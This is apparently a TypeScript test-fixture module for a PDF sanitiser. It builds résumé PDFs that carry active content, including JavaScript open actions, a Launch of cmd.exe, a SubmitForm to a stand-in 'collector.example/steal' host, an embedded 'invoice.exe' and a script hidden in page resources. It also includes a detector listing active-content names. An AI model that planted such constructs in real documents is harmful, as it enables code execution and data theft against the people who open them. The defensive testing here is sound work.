import {
  BlendMode,
  decodePDFRawStream,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFRawStream,
  PDFStream,
  PDFString,
  rgb,
  StandardFonts,
  type PDFObject,
  type PDFPage,
} from 'pdf-lib';

const ascii = (text: string) => text.replace(/[^\x20-\x7e]/g, '-');

/** A small real PDF, as a quant's résumé would be: one page of text per entry of `pages`. */
export async function makePdf(...pages: string[]): Promise<Uint8Array> {
  const doc = await resumeDocument(pages.length > 0 ? pages : ['Ada Lovelace — Curriculum Vitae']);
  return doc.save();
}

async function resumeDocument(pages: string[]): Promise<PDFDocument> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (const text of pages) doc.addPage().drawText(ascii(text), { x: 50, y: 700, size: 14, font });
  return doc;
}

const SCRIPT = 'app.alert("this résumé runs code")';
const script = () => ({ S: 'JavaScript', JS: PDFString.of(ascii(SCRIPT)) });

/** Registers an annotation dictionary and lists it in the page's /Annots, as authoring tools do. */
function annotate(page: PDFPage, entries: Record<string, unknown>) {
  const context = page.doc.context;
  page.node.addAnnot(context.register(context.obj({ Type: 'Annot', Rect: [50, 690, 300, 720], ...entries } as never)));
}

const link =
  (action: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  (page: PDFPage) =>
    annotate(page, { Subtype: 'Link', Border: [0, 0, 1], A: action, ...extra });

function embeddedFile(doc: PDFDocument) {
  const stream = doc.context.flateStream('MZ this would be a program', { Type: 'EmbeddedFile' });
  return doc.context.obj({
    Type: 'Filespec',
    F: PDFString.of('invoice.exe'),
    UF: PDFHexString.fromText('invoice.exe'),
    EF: { F: doc.context.register(stream) },
  });
}

type Tamper = (page: PDFPage, doc: PDFDocument) => void | Promise<void>;

/**
 * Résumés carrying each kind of active content a PDF reader may run or open, one kind per file, so a test can say
 * which one survived. Every file also carries the text `Ada Lovelace` so tests can check the page itself is kept.
 */
export const ACTIVE_CONTENT: Record<string, Tamper> = {
  'a page open action running JavaScript': (page, doc) =>
    page.node.set(PDFName.of('AA'), doc.context.obj({ O: script() })),
  'a link running JavaScript': link(script()),
  'a link launching a program': link({ S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe') } }),
  'a link submitting a form': link({
    S: 'SubmitForm',
    F: { FS: 'URL', F: PDFString.of('https://collector.example/steal') },
    Flags: 4,
  }),
  'a link importing form data': link({ S: 'ImportData', F: PDFString.of('payload.fdf') }),
  'a link opening another document': link({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }),
  'an https link chaining a script': link({ S: 'URI', URI: PDFString.of('https://example.com/'), Next: script() }),
  'a link with its own JavaScript triggers': link(
    { S: 'URI', URI: PDFString.of('https://example.com/') },
    { AA: { E: script() } },
  ),
  'a rich media annotation': (page, doc) =>
    annotate(page, {
      Subtype: 'RichMedia',
      RichMediaContent: { Assets: { Names: [PDFString.of('movie.swf'), embeddedFile(doc)] } },
      RichMediaSettings: { Activation: { Condition: 'PO' } },
    }),
  'a file attachment annotation': (page, doc) =>
    annotate(page, { Subtype: 'FileAttachment', FS: embeddedFile(doc), Name: 'Paperclip' }),
  'a form field whose widget runs JavaScript': (page, doc) => {
    const field = doc.getForm().createTextField('candidate.name');
    field.addToPage(page, { x: 50, y: 600, width: 200, height: 20 });
    const widget = field.acroField.getWidgets()[0]!;
    widget.dict.set(PDFName.of('AA'), doc.context.obj({ Fo: script() }));
    field.acroField.dict.set(PDFName.of('AA'), doc.context.obj({ K: script() }));
  },
  'embedded files in the catalog': async (_page, doc) => {
    await doc.attach(new TextEncoder().encode('MZ this would be a program'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
    });
  },
  'a document open action and document-level JavaScript': (_page, doc) => {
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj(script()));
    doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: script() }));
    doc.addJavaScript('onOpen', SCRIPT);
  },
};

/** A résumé of `pages` (first page tampered with) carrying the active content named by `kind`. */
export async function makePdfWith(kind: keyof typeof ACTIVE_CONTENT, pages = ['Ada Lovelace']): Promise<Uint8Array> {
  const doc = await resumeDocument(pages);
  await ACTIVE_CONTENT[kind]!(doc.getPage(0), doc);
  return doc.save();
}

/** A résumé of `pages` whose first page carries every kind of active content at once. */
export async function makePdfWithEveryActiveContent(pages = ['Ada Lovelace']): Promise<Uint8Array> {
  const doc = await resumeDocument(pages);
  for (const tamper of Object.values(ACTIVE_CONTENT)) await tamper(doc.getPage(0), doc);
  return doc.save();
}

/**
 * A résumé whose first page links to `uri` through a plain URI action, as a "my website" link does. The URI is
 * written as a hex string, so any byte in it (parentheses, backslashes) reaches the code under test as written.
 */
export async function makePdfWithLink(uri: string, text = 'Ada Lovelace'): Promise<Uint8Array> {
  const doc = await resumeDocument([text]);
  const written = PDFHexString.of(Buffer.from(uri, 'latin1').toString('hex'));
  link({ S: 'URI', URI: written }, { H: 'I', C: [0, 0, 1] })(doc.getPage(0));
  return doc.save();
}

/**
 * A designed résumé: a transparency group and a shaded panel drawn with the /Screen blend mode. Words that name
 * active content elsewhere (a /Screen annotation) are ordinary here, and the file must pass unchanged in look.
 */
export async function makeDesignedPdf(): Promise<Uint8Array> {
  const doc = await resumeDocument(['Ada Lovelace']);
  const page = doc.getPage(0);
  page.drawRectangle({
    x: 40,
    y: 680,
    width: 300,
    height: 50,
    color: rgb(0.2, 0.4, 0.8),
    opacity: 0.4,
    blendMode: BlendMode.Screen,
  });
  page.node.set(PDFName.of('Group'), doc.context.obj({ Type: 'Group', S: 'Transparency', CS: 'DeviceRGB' }));
  return doc.save();
}

/**
 * A résumé whose page resources reach an object carrying a script, where no reader would look for one: nothing
 * on the page can run it, but a sanitiser cannot prove that for every hiding place, so such a file must be refused.
 */
export async function makePdfWithScriptInResources(): Promise<Uint8Array> {
  const doc = await resumeDocument(['Ada Lovelace']);
  const form = doc.context.formXObject([], { BBox: [0, 0, 10, 10], AA: { O: script() } });
  doc.getPage(0).node.setXObject(PDFName.of('Hidden'), doc.context.register(form));
  return doc.save();
}

// ---- Reading a PDF back, independently of the code under test ----

/** Every stream of the file, decoded, so names inside compressed object streams are searchable too. */
async function decodedStreams(bytes: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const texts: string[] = [];
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    if (object instanceof PDFRawStream) {
      try {
        texts.push(Buffer.from(decodePDFRawStream(object).decode()).toString('latin1'));
      } catch {
        texts.push(Buffer.from(object.contents).toString('latin1'));
      }
    }
  }
  return texts;
}

const ACTIVE_NAMES = [
  'AA',
  'OpenAction',
  'JS',
  'JavaScript',
  'Launch',
  'SubmitForm',
  'ImportData',
  'RichMedia',
  'EmbeddedFile',
  'EmbeddedFiles',
  'AcroForm',
  'XFA',
  'FileAttachment',
  'Widget',
  'GoToR',
  'Filespec',
];

/**
 * The active-content names found in a PDF, read two ways: the raw bytes and every decoded stream searched as text,
 * and every parsed object walked (keys and name values). Empty means the file carries none of them.
 */
export async function activeContentIn(bytes: Uint8Array): Promise<string[]> {
  const found = new Set<string>();
  const delimiter = '(?=[\\s()<>\\[\\]{}/%]|$)';
  for (const text of [Buffer.from(bytes).toString('latin1'), ...(await decodedStreams(bytes))]) {
    for (const name of ACTIVE_NAMES) if (new RegExp(`/${name}${delimiter}`).test(text)) found.add(name);
  }
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const visit = (object: PDFObject | undefined): void => {
    if (object instanceof PDFName && ACTIVE_NAMES.includes(object.decodeText())) found.add(object.decodeText());
    if (object instanceof PDFArray) object.asArray().forEach(visit);
    const dict = object instanceof PDFStream ? object.dict : object instanceof PDFDict ? object : undefined;
    for (const [key, value] of dict?.entries() ?? []) {
      visit(key);
      visit(value);
    }
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
  for (const key of ['Names', 'Dests', 'OpenAction', 'AA', 'AcroForm']) {
    if (doc.catalog.has(PDFName.of(key))) found.add(`catalog /${key}`);
  }
  return [...found].sort();
}

/** The text drawn on each page (pdf-lib writes Helvetica text as hex strings shown with Tj). */
export async function pageTexts(bytes: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  return doc.getPages().map((page) => {
    const contents = page.node.Contents();
    const streams =
      contents instanceof PDFArray ? contents.asArray().map((ref) => doc.context.lookup(ref)) : [contents];
    return streams
      .filter((stream): stream is PDFRawStream => stream instanceof PDFRawStream)
      .map((stream) => Buffer.from(decodePDFRawStream(stream).decode()).toString('latin1'))
      .join('\n')
      .match(/<([0-9A-Fa-f]*)>\s*Tj/g)!
      .map((shown) => Buffer.from(shown.slice(1, shown.indexOf('>')), 'hex').toString('latin1'))
      .join(' ');
  });
}

/** Each page's link annotations, as the URI each one opens (undefined for a link that opens no URI). */
export async function linksIn(bytes: Uint8Array): Promise<(string | undefined)[][]> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  return doc.getPages().map((page) =>
    (page.node.Annots()?.asArray() ?? [])
      .map((ref) => doc.context.lookup(ref))
      .filter((annot): annot is PDFDict => annot instanceof PDFDict)
      .filter((annot) => annot.get(PDFName.of('Subtype')) === PDFName.of('Link'))
      .map((annot) => {
        const uri = annot.lookupMaybe(PDFName.of('A'), PDFDict)?.get(PDFName.of('URI'));
        return uri instanceof PDFString || uri instanceof PDFHexString ? uri.decodeText() : undefined;
      }),
  );
}
